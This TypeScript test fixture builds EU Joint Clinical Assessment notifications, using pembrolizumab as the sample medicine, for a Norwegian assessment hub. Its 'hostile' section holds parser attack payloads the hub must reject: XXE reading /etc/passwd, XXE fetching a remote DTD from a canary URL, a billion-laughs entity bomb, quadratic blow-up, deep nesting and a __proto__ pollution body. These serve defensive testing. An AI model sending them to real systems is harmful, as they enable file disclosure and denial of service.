/**
 * JCA notifications as the EU side would send them, in JSON and XML, and the hostile and broken ones a
 * sender must never get through: external entities (XXE), entity-expansion bombs, oversized bodies,
 * malformed text, unknown versions. Procedures use real medicines with their WHO ATC codes.
 */
import type { JcaDocument } from '../../../adapters/eu-jca/notification.ts';

export const JCA_NAMESPACE = 'urn:no:nyemetoder:metodehub:eu-jca:notification:1';

let serial = 0;
/** A procedure id no other test run uses. */
export const procedureIdFor = (prefix = 'JCA'): string =>
  `${prefix}-${new Date().getUTCFullYear()}-${process.pid % 10000}${String(Date.now() % 100000).padStart(5, '0')}${serial++}`;

/** A plausible notification; `overrides` replace top-level fields, `technology` and `dates` are merged. */
export function jcaDocument(
  overrides: Partial<Omit<JcaDocument, 'technology' | 'dates'>> & {
    technology?: Partial<JcaDocument['technology']>;
    dates?: JcaDocument['dates'];
  } = {},
): JcaDocument {
  const { technology, dates, ...rest } = overrides;
  return {
    schemaVersion: '1.0',
    procedureId: procedureIdFor(),
    procedureVersion: 1,
    milestone: 'SCOPING_STARTED',
    milestoneOn: '2025-03-03',
    technology: {
      type: 'MEDICINAL_PRODUCT',
      inn: 'pembrolizumab',
      atcCode: 'L01FF02',
      tradeName: 'Keytruda',
      developer: 'Merck Sharp & Dohme B.V.',
      ...technology,
    },
    indication: 'First-line treatment of metastatic non-small cell lung cancer with PD-L1 expression ≥ 50 %',
    picos: [
      {
        population: 'Adults with untreated metastatic NSCLC, PD-L1 TPS ≥ 50 %, no EGFR or ALK aberrations',
        intervention: 'Pembrolizumab 200 mg every 3 weeks',
        comparator: 'Platinum-based doublet chemotherapy',
        outcomes: [
          'Overall survival',
          'Progression-free survival',
          'Health-related quality of life',
          'Serious adverse events',
        ],
      },
    ],
    assessor: 'DE',
    coAssessor: 'NO',
    dates: { scopingStartedOn: '2025-03-03', expectedChmpOpinionOn: '2025-10-16', ...dates },
    documents: [{ kind: 'PICO_SCOPE', url: 'https://health.ec.europa.eu/hta/jca/scope.pdf' }],
    sentAt: '2025-03-03T09:15:00Z',
    ...rest,
  };
}

const xmlText = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

const element = (name: string, value: unknown, indent: string): string => {
  if (value === undefined || value === null) return '';
  if (typeof value !== 'object') return `${indent}<${name}>${xmlText(String(value))}</${name}>\n`;
  const inner = Object.entries(value as Record<string, unknown>)
    .map(([k, v]) => element(k, v, `${indent}  `))
    .join('');
  return `${indent}<${name}>\n${inner}${indent}</${name}>\n`;
};

const list = (
  wrapper: string,
  item: string,
  values: unknown[] | undefined,
  indent: string,
  render: (v: unknown, i: string) => string,
) =>
  values === undefined
    ? ''
    : `${indent}<${wrapper}>\n${values.map((v) => `${indent}  <${item}>\n${render(v, `${indent}    `)}${indent}  </${item}>\n`).join('')}${indent}</${wrapper}>\n`;

/** The XML face of a notification (contracts/xml/jca-notification.xsd). */
export function toXml(doc: JcaDocument, namespace = JCA_NAMESPACE): string {
  const i = '  ';
  const fields = (v: unknown, indent: string) =>
    Object.entries(v as Record<string, unknown>)
      .map(([k, x]) =>
        k === 'outcomes' || k === 'memberStates'
          ? `${indent}<${k}>\n${(x as string[]).map((o) => `${indent}  <${k.slice(0, -1)}>${xmlText(o)}</${k.slice(0, -1)}>\n`).join('')}${indent}</${k}>\n`
          : element(k, x, indent),
      )
      .join('');
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n<jcaNotification xmlns="${namespace}" schemaVersion="${xmlText(doc.schemaVersion)}">\n` +
    element('procedureId', doc.procedureId, i) +
    element('procedureVersion', doc.procedureVersion, i) +
    element('milestone', doc.milestone, i) +
    element('milestoneOn', doc.milestoneOn, i) +
    element('technology', doc.technology, i) +
    element('indication', doc.indication, i) +
    list('picos', 'pico', doc.picos, i, fields) +
    element('assessor', doc.assessor, i) +
    element('coAssessor', doc.coAssessor, i) +
    element('dates', doc.dates, i) +
    list('documents', 'document', doc.documents, i, fields) +
    element('sentAt', doc.sentAt, i) +
    '</jcaNotification>\n'
  );
}

/** Hostile and broken bodies, each with the content type it is sent as. */
export const hostile = {
  /** Classic XXE: an external entity pointing at a local file. */
  xxeFile: (): string =>
    `<?xml version="1.0"?>\n<!DOCTYPE jcaNotification [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n` +
    `<jcaNotification xmlns="${JCA_NAMESPACE}" schemaVersion="1.0"><procedureId>&xxe;</procedureId></jcaNotification>`,
  /** XXE that would call out to `url` (the test's canary server) if any parser fetched it. */
  xxeHttp: (url: string): string =>
    `<?xml version="1.0"?>\n<!DOCTYPE jcaNotification SYSTEM "${url}/dtd">\n` +
    `<jcaNotification xmlns="${JCA_NAMESPACE}" schemaVersion="1.0"><procedureId>X</procedureId></jcaNotification>`,
  /** Parameter entity pulling a remote DTD. */
  xxeParameter: (url: string): string =>
    `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM "${url}/evil.dtd"> %remote;]>\n<r/>`,
  /** The billion laughs: ten levels of ten-fold entity expansion. */
  billionLaughs: (): string => {
    const levels = ['<!ENTITY lol "lol">'];
    for (let n = 1; n <= 9; n++)
      levels.push(`<!ENTITY lol${n} "${`&lol${n === 1 ? '' : n - 1};`.repeat(10)}">`);
    return `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${levels.join('\n')}\n]>\n<jcaNotification xmlns="${JCA_NAMESPACE}" schemaVersion="1.0"><indication>&lol9;</indication></jcaNotification>`;
  },
  /** Quadratic blow-up: one large entity referenced many times. */
  quadraticBlowup: (): string =>
    `<?xml version="1.0"?>\n<!DOCTYPE q [<!ENTITY a "${'a'.repeat(2000)}">]>\n<jcaNotification>${'&a;'.repeat(2000)}</jcaNotification>`,
  /** A DOCTYPE written in lower case and with odd spacing. */
  sneakyDoctype: (): string => `<?xml version="1.0"?><!doctype   x [<!entity e "e">]><x>&e;</x>`,
  /** Unclosed tags. */
  malformedXml: (): string =>
    `<?xml version="1.0"?><jcaNotification xmlns="${JCA_NAMESPACE}" schemaVersion="1.0"><procedureId>JCA-1</procedureId><milestone>`,
  /** Deep nesting beyond any real notification. */
  deepXml: (depth = 1500): string => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`,
  /** JSON nested far deeper than a notification, inside a field the schema knows. */
  deepJson: (depth = 8000): string =>
    `{"schemaVersion": "1.0", "picos": ${'['.repeat(depth)}${']'.repeat(depth)}}`,
  malformedJson: (): string => '{"schemaVersion": "1.0", "procedureId": "JCA-2025-1",',
  /** A body larger than `bytes`, still a syntactically fine notification. */
  oversizedJson: (bytes: number): string =>
    JSON.stringify(jcaDocument({ indication: `Treatment of ${'ø'.repeat(Math.ceil(bytes / 2))}` })),
  /** A document in a format version this hub does not read. */
  unknownVersion: (): JcaDocument => ({ ...jcaDocument(), schemaVersion: '2.0' }),
  /** Prototype pollution attempt through JSON. */
  protoJson: (): string => JSON.stringify(jcaDocument()).replace(/^\{/, '{"__proto__": {"polluted": true}, '),
};
